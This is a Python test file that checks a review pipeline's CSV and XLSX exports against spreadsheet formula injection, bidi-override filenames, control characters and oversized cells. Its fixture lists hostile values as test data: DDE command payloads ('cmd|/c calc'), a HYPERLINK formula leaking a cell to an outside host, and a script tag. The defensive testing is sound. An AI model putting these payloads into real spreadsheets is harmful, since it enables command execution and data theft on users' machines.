"""Forms of a hostile report: nothing in them runs, nothing looks other than it is, and they come back as they went."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipeline import judgements
from pipeline.review.cells import LONGEST, fit, guard, unguard
from pipeline.review.export import export
from pipeline.review.taking_in import take_in
from tests.review.conftest import fill, form, read_form
from tests.review.folders import make, row, save_xlsx

SIGNS = tuple("=+-@\t\r＝＋－＠")
NAMES = [
    "=cmd|'/c calc'!A1",
    '@SUM(1+1)*cmd|"/c calc"!A0',
    '+1;=HYPERLINK("http://a.example?"&A1;"x")',
    "-2+3",
    "\t=1+1",
    " =1+1",
    "a\n=1+1",
    "a, =1+1 | =2",
    "''=1",
    "＝1+1",
    "<script>alert(1)</script>",
    "nam\u202eexe.txt\u202c",
    "\u2066hidden\u2069",
    "bell\x07 and null\x00",
    "x" * 100_000,
    "=" * 40_000,
    "_x000D_=1+1",
    'DDE ("cmd";"/c calc")',
]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    people = [row("people", n, name=name, other_names=[name, "=1"], given_name=name) for n, name in enumerate(NAMES)]
    members = [
        row("memberships", n, person_id=one["id"], role=one["name"], text="y" * 5) for n, one in enumerate(people)
    ]
    output = make(tmp_path / "out", {"people": people, "memberships": members})
    path = output / "texts" / f"{people[0]['document_ids'][0]}.txt"
    path.write_text("=1+1 <script>alert(1)</script> \u202e" + "z" * 100_000 + "\n", encoding="utf-8")
    export(output, wanted=("people", "memberships"))
    export(output, wanted=("people", "memberships"), form="xlsx")
    return output


@given(st.text(st.characters(exclude_categories=["Cs"])) | st.text("'=+-@\t\r\n;,| a", max_size=20))
def test_what_is_guarded_is_unguarded_to_the_byte(text: str) -> None:
    assert unguard(guard(text)) == text


@given(st.text("'=+-@\t\r\n;,| a＝", max_size=20))
def test_what_is_guarded_begins_no_formula_at_whatever_sign_a_cell_begins(text: str) -> None:
    for part in re.split(r"[;,|\t\r\n]", guard(text)):
        assert not part.strip(" ").startswith(SIGNS)


@given(st.text())
def test_what_fits_is_short_and_steers_nothing(text: str) -> None:
    shown = fit(text * 3)
    assert len(shown) <= LONGEST
    assert not re.search("[\x00-\x08\x1b\u202a-\u202e\u2066-\u2069]", shown)


@pytest.mark.parametrize("table", ["people", "memberships"])
def test_no_cell_of_csv_is_a_formula_however_the_file_is_cut(hostile: Path, table: str) -> None:
    for delimiter in ",;\t|":
        with form(hostile, table).open(encoding="utf-8-sig", newline="") as file:
            for cells in csv.reader(file, delimiter=delimiter):
                assert not [cell[:20] for cell in cells if cell.lstrip(" ").startswith(SIGNS)]


@pytest.mark.parametrize("table", ["people", "memberships"])
def test_no_cell_of_xlsx_is_a_formula_or_too_long(hostile: Path, table: str) -> None:
    path = hostile / "review" / f"{table}.xlsx"
    with zipfile.ZipFile(path) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    for cells in load_workbook(path).worksheets[0].iter_rows():
        for cell in cells:
            assert cell.data_type in ("s", "n", "inlineStr")
            assert len(str(cell.value or "")) <= 32_767


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_untouched_hostile_forms_say_nothing(hostile: Path, kind: str) -> None:
    done = take_in([hostile / "review" / f"{name}.{kind}" for name in ("people", "memberships")], hostile, by="ana")
    assert not done.verdicts
    assert not done.unreadable


def test_decisions_on_hostile_rows_are_taken_and_formulas_written_by_a_person_are_text(hostile: Path) -> None:
    def change(filled: list[dict[str, str]]) -> None:
        for cells in filled:
            cells["decision"] = "a"
        filled[0]["role"] = "'=1+1"
        filled[1]["role"] = "=2+2"

    take_in([fill(form(hostile, "memberships"), change)], hostile, by="ana")
    said = list(judgements.read(hostile / "judgements.jsonl"))
    assert len(said) == len(NAMES)
    assert sorted(one.after["role"] for one in said if one.after is not None) == ["=1+1", "=2+2"]
    assert {one.before["role"] for one in said if one.before is not None} == set(NAMES)


def test_a_form_may_come_back_as_another_kind_of_file(hostile: Path, tmp_path: Path) -> None:
    filled = read_form(form(hostile, "people"))
    path = save_xlsx(tmp_path / "people.xlsx", list(filled[0]), filled, typed=False)
    assert not take_in([path], hostile, by="ana").verdicts
